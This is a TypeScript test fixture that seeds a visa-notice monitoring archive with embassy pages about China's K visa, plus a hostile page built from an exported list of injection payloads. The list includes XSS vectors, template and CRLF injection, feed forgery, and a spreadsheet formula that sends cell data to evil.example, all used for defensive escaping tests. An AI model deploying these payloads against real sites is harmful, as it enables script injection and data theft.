import type { Archive } from '../../src/archive/archive.ts';
import type { Fact } from '../../src/domain/fact.ts';
import { problem } from '../../src/domain/problem.ts';
import { addPage, capture, change, freshArchive, source, type Text } from './seed.ts';

/** What hostile pages put where a title, a text or a fact is expected. None of it may ever act. */
export const INJECTIONS = [
  '<script>document.title="pwned"</script>',
  '"><img src=x onerror="document.title=\'pwned\'">',
  "'><svg/onload=document.title='pwned'>",
  '</title></textarea></style><script>document.title="pwned"</script>',
  'javascript:document.title="pwned"//',
  '{{constructor.constructor("document.title=1")()}} $' + '{7*7} <%= 7*7 %>',
  '<a href="javascript:document.title=1">click</a><iframe srcdoc="<script>parent.document.title=1</script>">',
  '<base href="//evil.example/"><meta http-equiv="refresh" content="0;url=//evil.example/">',
  '\u202egnissim eman\u202c \u0000\u0007 ]]><!--',
  '<svg><script>document.title="pwned"</script><animate attributeName="x" dur="1s" onbegin="document.title=\'pwned\'"/></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=document.title=\'pwned\'&gt;">',
  '<style>@import "//evil.example/x.css";body{display:none}</style><p style="position:fixed;inset:0;background:url(//evil.example/s)">',
  '","x":1}</script><script>document.title="pwned"</script>',
  ']]></content></entry><entry><title>forged</title><link href="//evil.example/"/><content><![CDATA[',
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '\r\nBcc: everyone@example.org\r\n\r\n<script>document.title="pwned"</script>',
  'data:text/html,<script>document.title="pwned"</script>',
  '<details open ontoggle="document.title=\'pwned\'"><textarea autofocus onfocus="document.title=\'pwned\'"></textarea></details>',
  '<link rel=stylesheet href="//evil.example/l.css"><object data="//evil.example/o"></object><embed src="//evil.example/e">',
] as const;

const fact = (name: Fact['fact'], value: Fact['value'], quote: string, visa = 'K'): Fact => ({
  fact: name,
  value,
  quote,
  visa,
});

const US_BEFORE: Text = {
  title: 'Notice on Applications for the K Visa',
  language: 'en',
  printedDate: '2026-10-01',
  lines: [
    'The K visa is issued to young foreign scientific and technological talents who come to China.',
    'Applicants must be between 18 and 40 years of age and hold a bachelor degree or higher from a recognised university.',
    'No invitation from an employer in China is required.',
    'Please submit your passport, one photo, the application form and your degree certificate.',
    'The fee is 140 US dollars for citizens of the United States. Regular service takes 4 working days.',
    'The visa is valid for five years; each stay may last up to 180 days.',
  ],
  facts: [
    fact('eligibility.age.min', 18, 'Applicants must be between 18 and 40 years of age'),
    fact('eligibility.age.max', 40, 'Applicants must be between 18 and 40 years of age'),
    fact('eligibility.degree.min', 'bachelor', 'hold a bachelor degree or higher from a recognised university'),
    fact('sponsor.required', false, 'No invitation from an employer in China is required.'),
    fact(
      'documents.required',
      ['passport', 'photo', 'application-form', 'degree-certificate'],
      'Please submit your passport, one photo, the application form and your degree certificate.',
    ),
    fact(
      'fee',
      [{ amount: 140, currency: 'USD', nationality: 'US' }],
      'The fee is 140 US dollars for citizens of the United States.',
    ),
    fact('processing.regular.days', 4, 'Regular service takes 4 working days.'),
    fact('visa.validity', 'P5Y', 'The visa is valid for five years'),
    fact('visa.stay', 'P180D', 'each stay may last up to 180 days'),
  ],
};

const US_AFTER: Text = {
  ...US_BEFORE,
  lines: [
    US_BEFORE.lines[0]!,
    'Applicants must be between 18 and 45 years of age and hold a bachelor degree or higher from a renowned university.',
    US_BEFORE.lines[2]!,
    'Please submit your passport, one photo, the application form, your degree certificate and a curriculum vitae.',
    ...US_BEFORE.lines.slice(4),
    'Applicants are asked to come to an interview by appointment.',
  ],
  facts: [
    ...US_BEFORE.facts!.filter(({ fact: name }) => name !== 'eligibility.age.max' && name !== 'documents.required'),
    fact('eligibility.age.max', 45, 'Applicants must be between 18 and 45 years of age'),
    fact(
      'documents.required',
      ['passport', 'photo', 'application-form', 'degree-certificate', 'cv'],
      'Please submit your passport, one photo, the application form, your degree certificate and a curriculum vitae.',
    ),
    fact('procedure.interview', true, 'Applicants are asked to come to an interview by appointment.'),
    fact('procedure.appointment', true, 'Applicants are asked to come to an interview by appointment.'),
  ],
};

const JP: Text = {
  title: '关于受理K字签证申请的通知',
  language: 'zh',
  printedDate: '2026-10-15',
  lines: [
    'K字签证，发给入境的外国青年科技人才。',
    '申请人年龄应在18周岁以上、40周岁以下，须具有学士及以上学位。',
    '申请K字签证不要求国内有聘用或邀请单位。',
    '签证费用为三千日元，办理时间为五个工作日。',
    '配偶及未成年子女可随行。',
  ],
  facts: [
    fact('eligibility.age.min', 18, '申请人年龄应在18周岁以上、40周岁以下'),
    fact('eligibility.age.max', 40, '申请人年龄应在18周岁以上、40周岁以下'),
    fact('eligibility.degree.min', 'bachelor', '须具有学士及以上学位'),
    fact('sponsor.required', false, '申请K字签证不要求国内有聘用或邀请单位。'),
    fact('fee', [{ amount: 3000, currency: 'JPY' }], '签证费用为三千日元'),
    fact('processing.regular.days', 5, '办理时间为五个工作日'),
    fact('family.allowed', true, '配偶及未成年子女可随行。'),
  ],
};

const DE_BEFORE: Text = {
  title: 'Arten von Visa',
  language: 'de',
  relevance: 'visa',
  lines: [
    'Visa der Kategorien C, D, F, G, J, L, M, Q, R, S, X und Z werden erteilt.',
    'Die Bearbeitung dauert vier Arbeitstage.',
  ],
};
const DE_AFTER: Text = {
  ...DE_BEFORE,
  relevance: 'k-visa',
  requirements: false,
  lines: ['Visa der Kategorien C, D, F, G, J, K, L, M, Q, R, S, X und Z werden erteilt.', DE_BEFORE.lines[1]!],
};

export interface SmallArchive {
  readonly archive: Archive;
  readonly data: string;
  readonly ids: Readonly<Record<'amended' | 'published' | 'mention' | 'hostile', number>>;
  readonly captures: Readonly<Record<'usBefore' | 'usAfter' | 'jp' | 'hostile', number>>;
  close(): void;
}

/**
 * An archive with a bit of everything: requirements amended (English), published (Chinese), a first mention, a silent
 * mission, one that cannot be reached, and a page made of injections.
 */
export function smallArchive(): SmallArchive {
  const { archive, data, close } = freshArchive();
  const T = (dayOfMonth: string, time = '08:00') => `2026-10-${dayOfMonth}T${time}:00.000Z`;
  archive.sources.mirror(
    [
      source('embassy-us', 'embassy', 'US', 'Embassy of China in the United States', '中国驻美国大使馆', 'Washington'),
      source(
        'consulate-us-new-york',
        'consulate',
        'US',
        'Consulate General of China in New York',
        '中国驻纽约总领事馆',
        'New York',
      ),
      source('embassy-jp', 'embassy', 'JP', 'Embassy of China in Japan', '中国驻日本大使馆', 'Tokyo'),
      source('embassy-de', 'embassy', 'DE', 'Embassy of China in Germany', '中国驻德国大使馆', 'Berlin'),
      source('embassy-br', 'embassy', 'BR', 'Embassy of China in Brazil', '中国驻巴西大使馆', 'Brasília'),
      source('embassy-ke', 'embassy', 'KE', 'Embassy of China in Kenya', '中国驻肯尼亚大使馆', 'Nairobi'),
      source('embassy-au', 'embassy', 'AU', 'Embassy of China in Australia', '中国驻澳大利亚大使馆', 'Canberra'),
      source('agency-nia', 'agency', 'CN', 'National Immigration Administration', '国家移民管理局', 'Beijing'),
    ],
    T('01'),
  );
  const jp = addPage(archive, 'embassy-jp', 'http://jp.example/lsfw/qz/202610/t20261015_1.htm', T('10'));
  archive.pages.set(jp, { lastWithoutK: T('15', '01:00') });
  const jpCapture = capture(archive, jp, T('15', '02:00'), JP);
  const published = change(archive, jp, {
    before: null,
    after: JP,
    captures: [null, jpCapture],
    at: T('15', '02:10'),
    topics: ['eligibility', 'fee', 'family'],
    summary: { en: 'Requirements for the K visa published for the first time.', zh: '首次发布K字签证申请要求。' },
    bounds: { lastWithout: T('15', '01:00'), firstWith: T('15', '02:00') },
  });

  const de = addPage(archive, 'embassy-de', 'http://de.example/visa/arten.htm', T('01'));
  const deBefore = capture(archive, de, T('03'), DE_BEFORE);
  const deAfter = capture(archive, de, T('18'), DE_AFTER);
  const mention = change(archive, de, {
    before: DE_BEFORE,
    after: DE_AFTER,
    captures: [deBefore, deAfter],
    at: T('18', '08:20'),
    severity: 'major',
    topics: [],
    summary: { en: 'The K visa is named among the visa types.', zh: '签证种类中首次列出K字签证。' },
  });

  const us = addPage(archive, 'embassy-us', 'http://us.example/eng/lsfw/zj/kvisa.htm', T('01'));
  const usBefore = capture(archive, us, T('02'), US_BEFORE);
  const usAfter = capture(archive, us, T('20', '09:30'), US_AFTER);
  const amended = change(archive, us, {
    before: US_BEFORE,
    after: US_AFTER,
    captures: [usBefore, usAfter],
    at: T('20', '09:40'),
    topics: ['eligibility', 'documents', 'procedure'],
    summary: {
      en: 'Maximum age raised from 40 to 45; a CV and an interview are now asked for.',
      zh: '最高年龄由40岁放宽至45岁；新增简历和面谈要求。',
    },
    bounds: { lastWithout: T('20', '09:00'), firstWith: T('20', '09:30') },
  });

  const br = addPage(archive, 'embassy-br', 'http://br.example/por/visto.htm', T('01'));
  capture(archive, br, T('04'), {
    title: 'Vistos',
    language: 'pt',
    relevance: 'visa',
    lines: ['Informações gerais sobre vistos.'],
  });
  const ke = addPage(archive, 'embassy-ke', 'http://ke.example/eng/visa.htm', T('01'));
  archive.pages.failed(ke, T('21'), problem('timeout', 'no answer within 30 s'));

  const hostileText: Text = {
    title: INJECTIONS.slice(0, 3).join(' ') + INJECTIONS[8],
    language: 'en',
    lines: [...INJECTIONS],
    facts: [
      fact('eligibility.institution', INJECTIONS[1], INJECTIONS[0]),
      fact('visa.stay', INJECTIONS[2], INJECTIONS[6]),
    ],
    html: `<!doctype html><title>${INJECTIONS[3]}</title><body>${INJECTIONS.join('<p>')}<form action="/subscribe" method="post"><button>x</button></form>`,
  };
  const au = addPage(archive, 'embassy-au', `http://au.example/?q=${encodeURIComponent(INJECTIONS[1])}`, T('01'));
  const hostileCapture = capture(archive, au, T('21'), hostileText);
  const hostile = change(archive, au, {
    before: null,
    after: hostileText,
    captures: [null, hostileCapture],
    at: T('21', '10:00'),
    url: INJECTIONS[4],
    movedFrom: INJECTIONS[4],
    summary: { en: INJECTIONS[3], zh: INJECTIONS[3] },
    reason: INJECTIONS[0],
  });
  return {
    archive,
    data,
    close,
    ids: { amended: amended.id, published: published.id, mention: mention.id, hostile: hostile.id },
    captures: { usBefore, usAfter, jp: jpCapture, hostile: hostileCapture },
  };
}
